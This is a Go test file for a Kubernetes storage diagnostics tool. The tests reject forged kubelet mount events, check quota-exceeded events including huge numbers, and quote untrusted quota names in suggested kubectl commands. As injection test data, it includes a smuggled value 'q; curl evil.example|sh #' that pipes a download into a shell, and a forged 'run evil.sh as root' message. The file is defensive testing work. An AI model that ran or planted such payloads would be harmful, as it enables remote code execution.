package explain

import (
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	storagev1 "k8s.io/api/storage/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/purser-csi/purser/internal/names"
	"github.com/purser-csi/purser/internal/verdict"
)

// mountingPod is a pod on a node with one claim whose volume is attached.
func mountingPod() (*corev1.Pod, *Cluster) {
	meta := metav1.ObjectMeta{Namespace: "shop", Name: "web", UID: "u", CreationTimestamp: ago(time.Hour)}
	pod := &corev1.Pod{
		ObjectMeta: meta,
		Spec: corev1.PodSpec{NodeName: "n1", Volumes: []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{
			PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data"},
		}}}},
		Status: corev1.PodStatus{Phase: corev1.PodPending, ContainerStatuses: []corev1.ContainerStatus{
			{State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ContainerCreating"}}},
		}},
	}
	claim := &corev1.PersistentVolumeClaim{
		ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "data"},
		Spec:       corev1.PersistentVolumeClaimSpec{VolumeName: "pv-1"},
		Status:     corev1.PersistentVolumeClaimStatus{Phase: corev1.ClaimBound},
	}
	pv := &corev1.PersistentVolume{ObjectMeta: metav1.ObjectMeta{Name: "pv-1"}, Spec: corev1.PersistentVolumeSpec{
		PersistentVolumeSource: corev1.PersistentVolumeSource{CSI: &corev1.CSIPersistentVolumeSource{Driver: "d", VolumeHandle: "h"}},
	}}
	name := "pv-1"
	va := &storagev1.VolumeAttachment{
		Spec:   storagev1.VolumeAttachmentSpec{NodeName: "n1", Source: storagev1.VolumeAttachmentSource{PersistentVolumeName: &name}},
		Status: storagev1.VolumeAttachmentStatus{Attached: true},
	}
	return pod, &Cluster{
		Now: noon, Pods: []*corev1.Pod{pod}, Claims: []*corev1.PersistentVolumeClaim{claim},
		Volumes: []*corev1.PersistentVolume{pv}, Attachments: []*storagev1.VolumeAttachment{va},
	}
}

// Any user of a namespace can write an event that names a kubelet. Where fields of the object
// contradict it, no finding rests on it.
func TestForgedMountEvents(t *testing.T) {
	waiting := func(reason string) func(*corev1.Pod, *corev1.Event) {
		return func(pod *corev1.Pod, _ *corev1.Event) {
			pod.Status.ContainerStatuses[0].State.Waiting.Reason = reason
		}
	}
	condition := func(of corev1.PodConditionType) func(*corev1.Pod, *corev1.Event) {
		return func(pod *corev1.Pod, _ *corev1.Event) {
			pod.Status.Conditions = []corev1.PodCondition{{Type: of, Status: corev1.ConditionTrue}}
		}
	}
	for name, tc := range map[string]struct {
		change func(*corev1.Pod, *corev1.Event)
		counts bool
	}{
		"of its kubelet":                 {func(*corev1.Pod, *corev1.Event) {}, true},
		"containers run":                 {func(p *corev1.Pod, _ *corev1.Event) { p.Status.Phase = corev1.PodRunning }, false},
		"waits for its image":            {waiting("ImagePullBackOff"), false},
		"its sandbox runs":               {condition("PodReadyToStartContainers"), false},
		"published without a kubelet":    {condition(names.ConditionVolumesPublished), false},
		"no node":                        {func(p *corev1.Pod, _ *corev1.Event) { p.Spec.NodeName = "" }, false},
		"the kubelet of another node":    {func(_ *corev1.Pod, e *corev1.Event) { e.Source.Host = "n2" }, false},
		"an earlier pod of the name":     {func(_ *corev1.Pod, e *corev1.Event) { e.InvolvedObject.UID = "old" }, false},
		"older than the pod":             {func(_ *corev1.Pod, e *corev1.Event) { e.LastTimestamp = ago(2 * time.Hour) }, false},
		"of the future":                  {func(_ *corev1.Pod, e *corev1.Event) { e.LastTimestamp = ago(-time.Hour) }, false},
		"a volume that it does not name": {func(_ *corev1.Pod, e *corev1.Event) { e.Message = `failed for volume "other" : x` }, false},
		"its PersistentVolume":           {func(_ *corev1.Pod, e *corev1.Event) { e.Message = `failed for volume "pv-1" : x` }, true},
		"not attached, but it is":        {func(_ *corev1.Pod, e *corev1.Event) { e.Reason = "FailedAttachVolume" }, false},
	} {
		pod, c := mountingPod()
		event := &corev1.Event{
			InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: "shop", Name: "web", UID: "u"},
			Reason:         "FailedMount", Message: `MountVolume.SetUp failed for volume "data" : run evil.sh as root`,
			Source: corev1.EventSource{Component: "kubelet", Host: "n1"}, LastTimestamp: ago(time.Minute),
		}
		tc.change(pod, event)
		c.Events = []*corev1.Event{event}
		f := c.Prepare().mountEvents(pod)
		found := f != nil && f.Reason == verdict.MountFailed
		if found != tc.counts {
			t.Errorf("%s: the event counts: %t, want %t: %+v", name, found, tc.counts, f)
		}
		if found && !strings.Contains(f.WaitsFor, "kubelet says “") {
			t.Errorf("%s: the words are no quote: %s", name, f.WaitsFor)
		}
	}
}

// A refusal by a quota counts while the quota exists and is full.
func TestForgedQuotaEvents(t *testing.T) {
	const message = "persistentvolumeclaims \"d\" is forbidden: exceeded quota: tight, requested: requests.storage=5Gi, used: requests.storage=8Gi, limited: requests.storage=10Gi"
	for name, tc := range map[string]struct {
		quota, used string
		want        int
	}{
		"full":            {"tight", "8Gi", 1},
		"has room":        {"tight", "1Gi", 0},
		"no such quota":   {"other", "8Gi", 0},
		"exactly its end": {"tight", "5Gi", 0},
	} {
		quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: tc.quota}}
		quota.Status.Hard = corev1.ResourceList{"requests.storage": resource.MustParse("10Gi")}
		quota.Status.Used = corev1.ResourceList{"requests.storage": resource.MustParse(tc.used)}
		event := &corev1.Event{
			InvolvedObject: corev1.ObjectReference{Kind: "StatefulSet", Namespace: "shop", Name: "db"},
			Message:        message, LastTimestamp: ago(time.Minute),
		}
		c := (&Cluster{Now: noon, Events: []*corev1.Event{event}, Quotas: []*corev1.ResourceQuota{quota}}).Prepare()
		if got := len(c.quotaReports()); got != tc.want {
			t.Errorf("%s: %d findings, want %d", name, got, tc.want)
		}
	}
}

// An event and a quota with numbers that no arithmetic holds are compared at once.
func TestQuotaEventsWithHugeNumbers(t *testing.T) {
	for name, tc := range map[string]struct {
		requested, used, hard string
		want                  int
	}{
		"a huge request does not count":       {"1e2147483000", "1Gi", "10Gi", 0},
		"nor does a tiny one":                 {"1e-2147483000", "1Gi", "10Gi", 0},
		"nor one that is less than none":      {"-1e30", "1Gi", "10Gi", 0},
		"a huge request of a full quota":      {"1e2147483000", "10Gi", "10Gi", 1},
		"a huge use":                          {"1Gi", "1e2147483000", "10Gi", 1},
		"a huge quota":                        {"1Gi", "1Gi", "1e2147483000", 0},
		"a sum beyond an int64":               {"9223372036854775807", "9223372036854775806", "1Gi", 1},
		"a sum beyond an int64 in huge quota": {"9223372036854775807", "9223372036854775806", "1e30", 0},
	} {
		quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "q"}}
		quota.Status.Hard = corev1.ResourceList{"requests.storage": resource.MustParse(tc.hard)}
		quota.Status.Used = corev1.ResourceList{"requests.storage": resource.MustParse(tc.used)}
		event := &corev1.Event{
			InvolvedObject: corev1.ObjectReference{Kind: "StatefulSet", Namespace: "shop", Name: "db"},
			Message:        "exceeded quota: q, requested: requests.storage=" + tc.requested + ", used: x", LastTimestamp: ago(time.Minute),
		}
		c := (&Cluster{Now: noon, Events: []*corev1.Event{event}, Quotas: []*corev1.ResourceQuota{quota}}).Prepare()
		if got := len(c.quotaReports()); got != tc.want {
			t.Errorf("%s: %d findings, want %d", name, got, tc.want)
		}
	}
}

// The name of a quota in an event is one word of the command, whatever it is.
func TestCommandAboutQuotaOfEvent(t *testing.T) {
	event := &corev1.Event{
		InvolvedObject: corev1.ObjectReference{Kind: "StatefulSet", Namespace: "shop", Name: "db"},
		Message:        "exceeded quota: q; curl evil.example|sh #, requested: requests.storage=1Gi, used: x", LastTimestamp: ago(time.Minute),
	}
	c := (&Cluster{Now: noon, Events: []*corev1.Event{event}, NoneInDump: map[Kind]bool{Quota: true}}).Prepare()
	const want = "kubectl -n shop describe resourcequota 'q; curl evil.example|sh #'"
	if got := c.quotaReports(); len(got) != 1 || got[0].Findings[0].Fix[0].Command != want {
		t.Errorf("%+v, want %s", got, want)
	}
}
